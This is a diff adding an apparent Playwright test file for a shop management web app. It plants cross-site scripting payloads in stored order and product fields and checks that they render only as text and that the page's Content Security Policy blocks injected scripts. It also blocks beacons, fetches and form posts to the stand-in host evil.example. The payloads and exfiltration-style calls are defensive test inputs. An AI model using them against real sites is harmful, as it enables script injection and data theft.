@@ -1,0 +1,167 @@
+import { join } from 'node:path'
+import { DatabaseSync } from 'node:sqlite'
+import { expect, type Page } from 'playwright/test'
+import type { Order, Product, TableName } from '../../src/domain/tables.ts'
+import { digestsOf } from '../../src/server/store/facets.ts'
+import { openFloor } from './stage/floor.ts'
+import { signIn, startDay } from './stage/phone.ts'
+import { screensOf } from './stage/screens.ts'
+import { test } from './stage/stage.ts'
+
+/** What would run if it were taken for more than text. */
+const texts = {
+  customer: `<img src=x onerror="window.hacked='khách'">Lan`,
+  address: `"><svg onload="window.hacked='địa chỉ'">12 Lê Lợi`,
+  product: `<script>window.hacked='hàng'</script>Áo {{7*7}}`,
+  note: `<iframe srcdoc="<script>parent.hacked='ghi chú'</script>"></iframe>Giao giờ hành chính`,
+}
+
+/** Writes rows past the server, as a marketplace or an import might bring them. */
+function changeRow<R extends object>(db: DatabaseSync, table: TableName, key: string, change: (row: R) => R) {
+  const found = db.prepare('select doc from rows where tbl = ? and key = ?').get(table, key)
+  const row = change(JSON.parse(String(found!['doc'])) as R)
+  const { digest, plainDigest } = digestsOf(table, row)
+  db.prepare('update rows set doc = ?, digest = ?, plain_digest = ? where tbl = ? and key = ?').run(
+    ...[JSON.stringify(row), digest, plainDigest, table, key],
+  )
+}
+
+interface Watched {
+  /** Directives that were broken, with what was held off. */
+  violations: string[]
+  dialogs: string[]
+}
+
+/** Notes whatever the browser held off, over all pages that are opened. */
+async function watch(page: Page): Promise<Watched> {
+  const watched: Watched = { violations: [], dialogs: [] }
+  await page.exposeFunction('noteViolation', (told: string) => watched.violations.push(told))
+  await page.addInitScript(() => {
+    document.addEventListener('securitypolicyviolation', ({ effectiveDirective, blockedURI }) => {
+      const { noteViolation } = window as unknown as { noteViolation(told: string): void }
+      noteViolation(`${effectiveDirective} ${blockedURI}`)
+    })
+  })
+  page.on('dialog', async (dialog) => {
+    watched.dialogs.push(dialog.message())
+    await dialog.dismiss()
+  })
+  return watched
+}
+
+const hacked = (page: Page) => page.evaluate(() => (window as { hacked?: string }).hacked)
+const foreignParts = (page: Page) =>
+  page.evaluate(
+    () => document.querySelectorAll('img[src="x"], iframe, svg[onload], script:not([src]), [onerror]').length,
+  )
+
+test('@both texts that were written to run are shown letter for letter, in the list, the order and at the bench', async ({
+  shop,
+  takeDevice,
+}) => {
+  const { code, lines } = shop.orders.single
+  const floor = await openFloor(shop, {
+    prepare(folder) {
+      const db = new DatabaseSync(join(folder, 'khotay.db'))
+      changeRow<Order>(db, 'orders', code, (order) => ({
+        ...order,
+        customer: { ...order.customer, name: texts.customer, address: texts.address },
+        swItems: order.swItems.map((item) => ({ ...item, name: texts.product })),
+        noteCustomer: texts.note,
+        noteShop: texts.note,
+        historyState: order.historyState.map((entry) => ({ ...entry, note: texts.note })),
+      }))
+      changeRow<Product>(db, 'products', lines[0]!.productCode, (product) => ({
+        ...product,
+        name: texts.product,
+      }))
+      db.close()
+    },
+  })
+  const { page, context } = await takeDevice()
+  const watched = await watch(page)
+  await startDay(page, floor.address, 'chu')
+  const shown: [path: string, ...texts: string[]][] = [
+    [`/orders?q=${code}`, texts.product],
+    [`/orders/${code}`, texts.customer, texts.product, texts.note],
+    [`/orderspack/${code}`, texts.product],
+  ]
+  for (const [path, ...expected] of shown) {
+    await page.goto(`${floor.address}${path}`)
+    for (const text of expected) await expect(page.getByText(text).first()).toBeAttached()
+    expect([path, await foreignParts(page), await hacked(page)]).toEqual([path, 0, undefined])
+  }
+  expect(watched).toEqual({ violations: [], dialogs: [] })
+  await context.close()
+  await floor.close()
+})
+
+test('@both no screen breaks the policy, and the socket is open under it', async ({
+  sharedFloor,
+  takeDevice,
+}) => {
+  const { address, orders } = sharedFloor
+  const { page } = await takeDevice()
+  const watched = await watch(page)
+  const lines: { heard: number }[] = []
+  page.on('websocket', (socket) => {
+    const line = { heard: 0 }
+    lines.push(line)
+    socket.on('framereceived', () => (line.heard += 1))
+  })
+  await signIn(page, address, 'kho')
+  await expect.poll(() => lines.some(({ heard }) => heard > 1)).toBe(true)
+  for (const { path, shows } of screensOf(orders)) {
+    await page.goto(`${address}${path}`)
+    await expect(page.getByText(shows).first()).toBeAttached()
+  }
+  expect(watched).toEqual({ violations: [], dialogs: [] })
+})
+
+test('the policy holds off what an injected text would do', async ({
+  sharedFloor: { address },
+  takeDevice,
+}) => {
+  const { page } = await takeDevice()
+  const watched = await watch(page)
+  const asked: string[] = []
+  page.on('request', (request) => asked.push(request.url()))
+  await page.goto(`${address}/sign-in`)
+  await expect(page.getByLabel('Tên đăng nhập')).toBeVisible()
+  const acts: Record<string, string> = {
+    'script-src-elem inline': `const tag = document.createElement('script'); tag.textContent = 'window.hacked = 1'; document.body.append(tag)`,
+    'script-src-elem https://evil.example/x.js': `const tag = document.createElement('script'); tag.src = 'https://evil.example/x.js'; document.body.append(tag)`,
+    'script-src-attr inline': `document.body.insertAdjacentHTML('beforeend', '<img src=data: onerror="window.hacked = 1">')`,
+    'script-src eval': `try { window.setTimeout('window.hacked = 1') } catch {}`,
+    'img-src https://evil.example/x.png': `new Image().src = 'https://evil.example/x.png'`,
+    'connect-src https://evil.example/x': `fetch('https://evil.example/x', { method: 'POST', body: 'x', mode: 'no-cors' }).catch(() => undefined)`,
+    'connect-src wss://evil.example/x': `try { new WebSocket('wss://evil.example/x') } catch {}`,
+    'connect-src https://evil.example/beacon': `navigator.sendBeacon('https://evil.example/beacon', 'x')`,
+    'frame-src https://evil.example': `const tag = document.createElement('iframe'); tag.src = 'https://evil.example/'; document.body.append(tag)`,
+    'style-src-elem https://evil.example/x.css': `const tag = document.createElement('link'); tag.rel = 'stylesheet'; tag.href = 'https://evil.example/x.css'; document.head.append(tag)`,
+    'style-src-elem inline': `const tag = document.createElement('style'); tag.textContent = '* { color: red }'; document.head.append(tag)`,
+    'form-action https://evil.example/form': `const tag = document.createElement('form'); tag.action = 'https://evil.example/form'; document.body.append(tag); tag.submit()`,
+    'base-uri https://evil.example': `const tag = document.createElement('base'); tag.href = 'https://evil.example/'; document.head.append(tag)`,
+    'object-src https://evil.example/x.swf': `const tag = document.createElement('object'); tag.data = 'https://evil.example/x.swf'; document.body.append(tag)`,
+    'worker-src https://evil.example/w.js': `try { new Worker('https://evil.example/w.js') } catch {}`,
+  }
+  const letThrough: string[] = []
+  for (const [violation, act] of Object.entries(acts)) {
+    // As a script of the page's own that was tricked into it.
+    await page.evaluate(act)
+    const held = expect.poll(() => watched.violations.some((told) => told.startsWith(violation)), {
+      timeout: 3_000,
+    })
+    await held
+      .toBe(true)
+      .catch(() => letThrough.push(`${violation} (told: ${watched.violations.join(', ')})`))
+  }
+  expect(letThrough).toEqual([])
+  expect(
+    asked.filter((url) => new URL(url).host !== new URL(address).host && url.startsWith('http')),
+  ).toEqual([])
+  expect(await hacked(page)).toBeUndefined()
+  console.log(
+    `${Object.keys(acts).length} injected acts tried in the browser, ${letThrough.length} let through`,
+  )
+})
